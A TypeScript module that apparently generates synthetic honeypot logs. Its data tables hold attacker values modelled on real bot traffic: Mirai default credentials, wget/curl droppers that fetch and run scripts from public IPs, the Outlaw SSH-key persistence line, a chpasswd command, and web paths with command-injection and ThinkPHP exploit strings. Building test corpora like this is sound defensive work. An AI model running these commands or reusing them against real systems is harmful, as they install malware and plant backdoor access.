/**
 * Every attacker-chosen value the sample logs hold: usernames, passwords, shell commands,
 * download URLs and their SHA-256, HTTP user agents, SSH client banners. All of them come from
 * one object built here (`AttackerValues`), so the `hostile` option can swap in a hostile corpus
 * in one place (see `withHostileValues`).
 *
 * Distributions are long-tailed: a curated head of real favourites (root/123456, Mirai's telnet
 * pairs, the "mdrfckr" SSH-key script …) followed by a synthetic tail that is generated from the
 * rank, so a tail of any length costs no memory.
 */
import { createHash } from "node:crypto";
import { isReserved, numberToIp } from "./addresses.ts";
import { Rng, WeightedTable, hash32, zipfWeights } from "./prng.ts";
import type { HostileSource } from "./hostile.ts";
import { SSH_CLIENTS } from "./ssh-clients.ts";
import type { SshClient } from "./ssh-clients.ts";

/** One command line of a shell script and, if it fetches a file, the download it causes. */
export interface CommandStep {
  input: string;
  /** Set when the line fetches a file (wget/curl/tftp): Cowrie logs a file_download for it. */
  download?: Download;
  /** Cowrie does not know the command: it logs command.failed after command.input. */
  unknown?: boolean;
}

export interface Download {
  url: string;
  sha256: string;
  /** The host no longer serves it: Cowrie logs file_download.failed. */
  dead: boolean;
}

/** The values attackers choose. Each call draws one value from the stream it is given. */
export interface AttackerValues {
  /** An SSH login attempt. */
  sshCredential(rng: Rng): { username: string; password: string };
  /** A telnet login attempt (Mirai-style device defaults dominate). */
  telnetCredential(rng: Rng): { username: string; password: string };
  /** What a bot types after a successful login: a short script, in order. */
  script(rng: Rng, protocol: "ssh" | "telnet"): CommandStep[];
  sshClient(rng: Rng): SshClient;
  /**
   * What a non-SSH client sends to port 22 as its "banner" (a TLS ClientHello from web scanners),
   * decoded as Cowrie does: UTF-8 with backslash escapes for undecodable bytes.
   */
  nonSshBanner(rng: Rng): string;
  /** A public key offered for login: OpenSSH key type, base64 body, MD5 fingerprint. */
  publicKey(rng: Rng): { type: string; key: string; fingerprint: string };
  /** A database/FTP login seen by Dionaea (mssqld, mysqld, ftpd). */
  serviceCredential(rng: Rng, service: "mssqld" | "mysqld" | "ftpd"): { username: string; password: string };
  userAgent(rng: Rng): string;
  /** An HTTP request path for scans of web ports. */
  httpPath(rng: Rng): string;
}

// ---------------------------------------------------------------------------------------------
// Credentials

const SSH_USERNAMES = [
  "root", "admin", "user", "test", "ubuntu", "oracle", "postgres", "pi", "git", "ftpuser", "guest",
  "support", "deploy", "hadoop", "nagios", "mysql", "tomcat", "www", "www-data", "administrator",
  "ubnt", "default", "teamspeak", "ts3", "minecraft", "jenkins", "vagrant", "centos", "dev", "steam",
  "usuario", "test1", "user1", "operator", "backup", "webmaster", "odoo", "zabbix", "redis", "elastic",
  "apache", "demo", "sinusbot", "ansible", "docker", "uucp", "nobody", "bin", "daemon", "1234",
];

const SSH_PASSWORDS = [
  "123456", "admin", "password", "root", "12345", "1234", "123", "12345678", "test", "qwerty",
  "123456789", "1", "111111", "000000", "admin123", "1qaz2wsx", "P@ssw0rd", "abc123", "root123",
  "123123", "password1", "1234567890", "toor", "pass", "qwe123", "changeme", "ubnt", "raspberry",
  "default", "1q2w3e4r", "welcome", "user", "Passw0rd", "guest", "master", "letmein", "654321",
  "qwerty123", "huawei", "admin@123", "asdf", "alpine", "oracle", "postgres", "test123", "112233",
  "666666", "888888", "abcd1234", "zxcvbnm",
];

// Mirai's built-in table (2016 source release) still drove most telnet logins in 2019.
const TELNET_PAIRS: ReadonlyArray<readonly [string, string]> = [
  ["root", "xc3511"], ["root", "vizxv"], ["admin", "admin"], ["root", "admin"], ["root", "888888"],
  ["root", "xmhdipc"], ["root", "default"], ["root", "juantech"], ["root", "123456"], ["root", "54321"],
  ["support", "support"], ["root", ""], ["admin", "password"], ["root", "root"], ["root", "12345"],
  ["user", "user"], ["admin", ""], ["root", "pass"], ["admin", "admin1234"], ["root", "1111"],
  ["admin", "smcadmin"], ["admin", "1111"], ["root", "666666"], ["root", "password"], ["root", "1234"],
  ["root", "klv123"], ["Administrator", "admin"], ["service", "service"], ["supervisor", "supervisor"],
  ["guest", "guest"], ["guest", "12345"], ["admin1", "password"], ["administrator", "1234"],
  ["666666", "666666"], ["888888", "888888"], ["ubnt", "ubnt"], ["root", "klv1234"], ["root", "Zte521"],
  ["root", "hi3518"], ["root", "jvbzd"], ["root", "anko"], ["root", "zlxx."], ["root", "7ujMko0vizxv"],
  ["root", "7ujMko0admin"], ["root", "system"], ["root", "ikwb"], ["root", "dreambox"], ["root", "user"],
  ["root", "realtek"], ["root", "00000000"], ["admin", "1111111"], ["admin", "1234"], ["admin", "12345"],
  ["admin", "54321"], ["admin", "123456"], ["admin", "7ujMko0admin"], ["admin", "pass"], ["admin", "meinsm"],
  ["tech", "tech"], ["mother", "fucker"],
];

const NAME_PARTS = [
  "alex", "anna", "bob", "carlos", "daniel", "david", "eva", "frank", "george", "hans", "ivan", "jack",
  "john", "julia", "kevin", "linda", "mark", "maria", "mike", "nick", "oscar", "paul", "peter", "sam",
  "sara", "tom", "victor", "wang", "yang", "zhang", "server", "web", "data", "mail", "ftp", "db", "app",
];
const WORD_PARTS = [
  "pass", "admin", "qwe", "abc", "love", "dragon", "monkey", "sun", "star", "china", "server", "test",
  "hello", "master", "secret", "super", "welcome", "p@ss", "Aa", "zaq", "qaz", "wsx", "asd", "root",
];

/** Synthetic tail item of rank `rank` (beyond the curated head): stable for a rank. */
function tailUsername(rank: number): string {
  const name = NAME_PARTS[rank % NAME_PARTS.length]!;
  const n = Math.floor(rank / NAME_PARTS.length);
  return n === 0 ? name : `${name}${n}`;
}

function tailPassword(rank: number): string {
  const word = WORD_PARTS[rank % WORD_PARTS.length]!;
  const n = Math.floor(rank / WORD_PARTS.length);
  const suffixes = ["", "123", "@123", "2019", "!", "1234", "#", "01", "888", "_2018"];
  return `${word}${suffixes[n % suffixes.length]}${n >= suffixes.length ? Math.floor(n / suffixes.length) : ""}`;
}

/** A curated head followed by a generated tail, with Zipf-like popularity over the ranks. */
class LongTail {
  private readonly ranks: WeightedTable<number>;

  constructor(private readonly head: readonly string[], private readonly tail: (rank: number) => string, size: number, exponent: number) {
    const n = Math.max(size, head.length, 1);
    this.ranks = new WeightedTable(Array.from({ length: n }, (_, i) => i), zipfWeights(n, exponent));
  }

  pick(rng: Rng): string {
    const rank = this.ranks.pick(rng);
    return rank < this.head.length ? this.head[rank]! : this.tail(rank - this.head.length);
  }
}

// ---------------------------------------------------------------------------------------------
// Downloads: campaigns with a host, file names, and one SHA-256 per URL

interface Campaign {
  host: string;
  files: readonly string[];
  weight: number;
  /** Share of fetches that fail (host already taken down). */
  deadRate: number;
  /** Template of the dropper line; {url} {file} {host} are filled in. */
  dropper: string;
}

// Download hosts are documentation-free public addresses of hosting providers, as 2019 bots used
// (URLs are defanged by the pipeline before display; these hosts are never contacted).
const CAMPAIGNS: readonly Campaign[] = [
  { host: "185.244.25.153", files: ["bins.sh"], weight: 20, deadRate: 0.2, dropper: "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget {url}; chmod 777 {file}; sh {file}; tftp {host} -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; rm -rf *" },
  { host: "46.29.163.203", files: ["x86", "mips", "arm7"], weight: 12, deadRate: 0.3, dropper: "cd /tmp; wget {url}; chmod +x {file}; ./{file} ssh.exploit" },
  { host: "104.248.160.24", files: ["8UsA.sh"], weight: 10, deadRate: 0.1, dropper: "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget {url}; curl -O {url}; chmod 777 {file}; sh {file}" },
  { host: "89.46.223.70", files: ["ssh.sh", "i686"], weight: 7, deadRate: 0.5, dropper: "wget -q {url} -O /tmp/.{file} && sh /tmp/.{file}" },
  { host: "178.128.242.134", files: ["Mozi.m", "Mozi.a"], weight: 6, deadRate: 0.2, dropper: "cd /tmp; wget {url} -O /tmp/{file}; chmod 777 /tmp/{file}; /tmp/{file} jaws" },
  { host: "37.49.224.124", files: ["sora.sh"], weight: 5, deadRate: 0.4, dropper: "cd /tmp; wget {url}; sh {file}" },
  { host: "194.147.32.101", files: ["xmrig", "config.json"], weight: 3, deadRate: 0.6, dropper: "curl -s {url} -o /tmp/{file}; chmod +x /tmp/{file}" },
  { host: "51.38.71.61", files: ["update.sh"], weight: 2, deadRate: 0.3, dropper: "wget {url} -O- | sh" },
];

// ---------------------------------------------------------------------------------------------
// Scripts

// The "mdrfckr" / Outlaw recon script seen on every SSH honeypot in 2019.
const SSH_KEY_LINE =
  'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~';

const RECON_LINES = [
  "uname -a", "uname -m", "nproc", "w", "whoami", "id", "cat /proc/cpuinfo", "cat /etc/issue", "ps -x", "free -m",
  "lscpu | grep Model", "crontab -l", "history -c", "ifconfig", "cat /etc/passwd", "top", "ls -la", "uptime",
];

const OUTLAW_SCRIPT = [
  "cat /proc/cpuinfo | grep name | wc -l",
  "{chpasswd}",
  "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
  "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
  "ls -lh $(which ls)",
  "which ls",
  "crontab -l",
  "w",
  "uname -m",
  "cat /proc/cpuinfo | grep model | grep name | wc -l",
  "top",
  "uname",
  "uname -a",
  "lscpu | grep Model",
  SSH_KEY_LINE,
];

const MIRAI_TELNET = ["enable", "system", "shell", "sh", "/bin/busybox {tag}"];

const USER_AGENTS = [
  "Mozilla/5.0 zgrab/0.x", "python-requests/2.21.0", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36",
  "curl/7.29.0", "Go-http-client/1.1", "masscan/1.0 (https://github.com/robertdavidgraham/masscan)", "Hello, World",
  "Mozilla/5.0 (compatible; NetcraftSurveyAgent/1.0; +info@netcraft.com)", "Wget(linux)", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)",
  "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:52.0) Gecko/20100101 Firefox/52.0", "python-urllib3/1.24.1", "Mozilla/5.0 (compatible; Nimbostratus-Bot/v1.3.2; http://cloudsystemnetworks.com)",
];

const HTTP_PATHS = [
  "/", "/", "/", "/favicon.ico", "/robots.txt", "/phpmyadmin/", "/manager/html", "/.env", "/wp-login.php", "/HNAP1/",
  "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
  "/cgi-bin/mainfunction.cgi", "/shell?cd+/tmp;rm+-rf+*;wget+http://185.244.25.153/bins.sh;sh+bins.sh", "/solr/admin/info/system?wt=json",
  "/nice%20ports%2C/Tri%6Eity.txt%2ebak", "/board.cgi?cmd=cat%20/etc/passwd", "/TP/public/index.php", "/login.cgi",
];

const SERVICE_CREDENTIALS: Readonly<Record<"mssqld" | "mysqld" | "ftpd", ReadonlyArray<readonly [string, string]>>> = {
  mssqld: [["sa", ""], ["sa", "123"], ["sa", "sa"], ["sa", "123456"], ["sa", "password"], ["sa", "1qaz2wsx"], ["admin", "admin"], ["sa", "sa123"], ["sa", "P@ssw0rd"], ["kisadmin", "kisadmin"]],
  mysqld: [["root", ""], ["root", "root"], ["root", "123456"], ["root", "mysql"], ["admin", "admin"], ["root", "password"], ["mysql", "mysql"]],
  ftpd: [["anonymous", "anonymous@"], ["anonymous", "IEUser@"], ["admin", "admin"], ["ftp", "ftp"], ["root", "123456"], ["user", "user"], ["anonymous", "guest@example.com"]],
};

// Public keys bots offer (the Outlaw "mdrfckr" key and a generic ed25519 one).
const PUBLIC_KEYS = [
  { type: "ssh-rsa", body: "AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4WFwdIe6+i6rBLAsPKgAySVKPRK+oRw==" },
  { type: "ssh-ed25519", body: "AAAAC3NzaC1lZDI1NTE5AAAAIBtHwPCqi3Y5Cxqvm3YPbHj4JX3bNKp0RypQ0+ybbSr8" },
];

/**
 * Bytes decoded as Python's `bytes.decode("utf-8", "backslashreplace")`: valid sequences become
 * characters (control characters included), invalid bytes become the text `\xNN`.
 */
function backslashReplace(bytes: Buffer): string {
  let out = "";
  for (let i = 0; i < bytes.length; ) {
    const b = bytes[i]!;
    const need = b < 0x80 ? 0 : b >= 0xc2 && b <= 0xdf ? 1 : b >= 0xe0 && b <= 0xef ? 2 : b >= 0xf0 && b <= 0xf4 ? 3 : -1;
    let ok = need >= 0 && i + need < bytes.length;
    for (let k = 1; ok && k <= need; k++) ok = (bytes[i + k]! & 0xc0) === 0x80;
    if (ok) {
      const text = bytes.toString("utf8", i, i + need + 1);
      if (!text.includes("\ufffd")) {
        out += text;
        i += need + 1;
        continue;
      }
    }
    out += `\\x${b.toString(16).padStart(2, "0")}`;
    i++;
  }
  return out;
}

const TAIL_FILES = ["x86", "mips", "arm", "arm7", "bins.sh", "a.sh", "i", "x", "sshd", "kworker", "Mozi.m", "update.sh", ".x/y", "dvr"];

/** A public-looking IPv4 host for a tail rank (never a reserved range). */
function tailHost(rank: number, seed: number): string {
  for (let salt = 0; ; salt++) {
    const n = hash32(`dl-host-${rank}-${salt}`, seed);
    const ip = numberToIp(n);
    if (!isReserved(ip) && n % 256 !== 0 && n % 256 !== 255) return ip;
  }
}

/** A pseudo-random 64-hex digest that is the same for the same text (a stand-in SHA-256). */
function stableSha256(text: string, seed: number): string {
  // Four rounds of a 32-bit mix over the text give 256 bits; this is not a hash of any file,
  // it only has to be stable per URL and look like a SHA-256.
  let out = "";
  for (let round = 0; round < 8; round++) {
    let h = (0x811c9dc5 ^ seed ^ (round * 0x9e3779b9)) >>> 0;
    for (let i = 0; i < text.length; i++) h = Math.imul(h ^ text.charCodeAt(i), 16777619) >>> 0;
    h = Math.imul(h ^ (h >>> 15), 0x2c1b3c6d) >>> 0;
    h = Math.imul(h ^ (h >>> 12), 0x297a2d39) >>> 0;
    out += ((h ^ (h >>> 15)) >>> 0).toString(16).padStart(8, "0");
  }
  return out;
}

export interface ValueOptions {
  /** Grows the synthetic tails with the volume (more events, more distinct rare values). */
  scale: number;
  seed: number;
}

/** The ordinary (non-hostile) values. */
export function createAttackerValues(opts: ValueOptions): AttackerValues {
  const tailSize = Math.round(2000 * Math.max(0.05, opts.scale));
  const usernames = new LongTail(SSH_USERNAMES, tailUsername, tailSize / 4, 1.6);
  const passwords = new LongTail(SSH_PASSWORDS, tailPassword, tailSize, 1.05);
  const telnet = new WeightedTable(TELNET_PAIRS, zipfWeights(TELNET_PAIRS.length, 0.9));
  const clients = new WeightedTable(SSH_CLIENTS, SSH_CLIENTS.map((c) => c.weight));
  const campaigns = new WeightedTable(CAMPAIGNS, CAMPAIGNS.map((c) => c.weight));
  const agents = new WeightedTable(USER_AGENTS, zipfWeights(USER_AGENTS.length, 1.2));
  const paths = new WeightedTable(HTTP_PATHS, zipfWeights(HTTP_PATHS.length, 0.8));
  const recon = new WeightedTable(RECON_LINES, zipfWeights(RECON_LINES.length, 1.0));

  // Past the named campaigns, a long tail of one-off droppers: a host and a file name per rank.
  const tailHosts = new LongTail([], (rank) => tailHost(rank, opts.seed), Math.round(400 * Math.max(0.1, opts.scale)), 1.1);
  const download = (rng: Rng): { step: CommandStep } => {
    const campaign = rng.chance(0.85) ? campaigns.pick(rng) : { host: tailHosts.pick(rng), files: [rng.pick(TAIL_FILES)], deadRate: 0.5, dropper: "cd /tmp; wget {url}; chmod +x {file}; ./{file}" };
    const file = rng.pick(campaign.files);
    const url = `http://${campaign.host}/${file}`;
    const dl: Download = { url, sha256: stableSha256(url, opts.seed), dead: rng.chance(campaign.deadRate) };
    const input = campaign.dropper.replaceAll("{url}", url).replaceAll("{file}", file).replaceAll("{host}", campaign.host);
    return { step: { input, download: dl } };
  };

  return {
    sshCredential(rng) {
      // Bots mostly try root; the username tail comes from dictionary bots.
      // Empty usernames happen (realdata/tpot-2022 has them on failed logins).
      const username = rng.chance(0.55) ? "root" : rng.chance(0.004) ? "" : usernames.pick(rng);
      return { username, password: passwords.pick(rng) };
    },
    telnetCredential(rng) {
      const [username, password] = telnet.pick(rng);
      return { username, password };
    },
    script(rng, protocol) {
      if (protocol === "telnet") {
        const steps: CommandStep[] = MIRAI_TELNET.map((line) => ({
          input: line.replace("{tag}", rng.pick(["ECCHI", "MIORI", "OWARI", "SORA", "HAKAI", "Mirai"])),
          unknown: line === "enable" || line === "system" || line.startsWith("/bin/busybox"),
        }));
        if (rng.chance(0.35)) steps.push(download(rng).step);
        return steps;
      }
      const roll = rng.next();
      if (roll < 0.4) {
        // Outlaw: the whole script, with a fresh random root password in chpasswd.
        const pw = rng.hex(4).toUpperCase() + rng.hex(8);
        const upto = rng.chance(0.8) ? OUTLAW_SCRIPT.length : rng.int(2, OUTLAW_SCRIPT.length);
        return OUTLAW_SCRIPT.slice(0, upto).map((line) => ({ input: line.replace("{chpasswd}", `echo "root:${pw}"|chpasswd|bash`) }));
      }
      if (roll < 0.75) {
        const steps: CommandStep[] = [{ input: recon.pick(rng) }];
        if (rng.chance(0.5)) steps.push({ input: recon.pick(rng) });
        steps.push(download(rng).step);
        return steps;
      }
      const n = rng.int(1, 4);
      return Array.from({ length: n }, () => ({ input: recon.pick(rng) }));
    },
    sshClient: (rng) => clients.pick(rng),
    nonSshBanner(rng) {
      // TLS 1.2 ClientHello record header, then random and cipher-suite bytes.
      const bytes = [0x16, 0x03, 0x01, 0x00, 0xf2, 0x01, 0x00, 0x00, 0xee, 0x03, 0x03];
      for (let i = 0; i < 40; i++) bytes.push(rng.int(0, 255));
      bytes.push(0x00, 0x00, 0x82, 0xc0, 0x30, 0xc0, 0x2c, 0xc0, 0x28, 0xc0, 0x24, 0xc0, 0x14, 0xc0);
      return backslashReplace(Buffer.from(bytes));
    },
    publicKey(rng) {
      const key = rng.pick(PUBLIC_KEYS);
      const body = Buffer.from(key.body, "base64");
      const md5 = createHash("md5").update(body).digest("hex");
      return { type: key.type, key: key.body, fingerprint: md5.match(/../g)!.join(":") };
    },
    serviceCredential(rng, service) {
      const [username, password] = rng.pick(SERVICE_CREDENTIALS[service]);
      return { username, password };
    },
    userAgent: (rng) => agents.pick(rng),
    httpPath: (rng) => paths.pick(rng),
  };
}

/**
 * Hostile mode for ordinary traffic: every 50th value of a kind is the next (non-huge) corpus
 * payload (HostileSource.sometimes). Counter-based, no random draws: the events are the same as
 * without hostile mode, only values change. Sweep visits (hostile.ts) add the rest.
 */
export function withHostileValues(base: AttackerValues, hostile: HostileSource): AttackerValues {
  return {
    ...base,
    sshCredential(rng) {
      const c = base.sshCredential(rng);
      return { username: hostile.sometimes("username", c.username), password: hostile.sometimes("password", c.password) };
    },
    telnetCredential(rng) {
      const c = base.telnetCredential(rng);
      return { username: hostile.sometimes("username", c.username), password: hostile.sometimes("password", c.password) };
    },
    serviceCredential(rng, service) {
      const c = base.serviceCredential(rng, service);
      return { username: hostile.sometimes("username", c.username), password: hostile.sometimes("password", c.password) };
    },
    script(rng, protocol) {
      return base.script(rng, protocol).map((step) => ({ ...step, input: hostile.sometimes("command", step.input) }));
    },
    sshClient(rng) {
      const client = base.sshClient(rng);
      const version = hostile.sometimes("ssh-version", client.version);
      return version === client.version ? client : { ...client, version };
    },
    userAgent: (rng) => hostile.sometimes("user-agent", base.userAgent(rng)),
    nonSshBanner: (rng) => hostile.sometimes("ssh-version", base.nonSshBanner(rng)),
    httpPath: (rng) => hostile.sometimes("http-path", base.httpPath(rng)),
  };
}
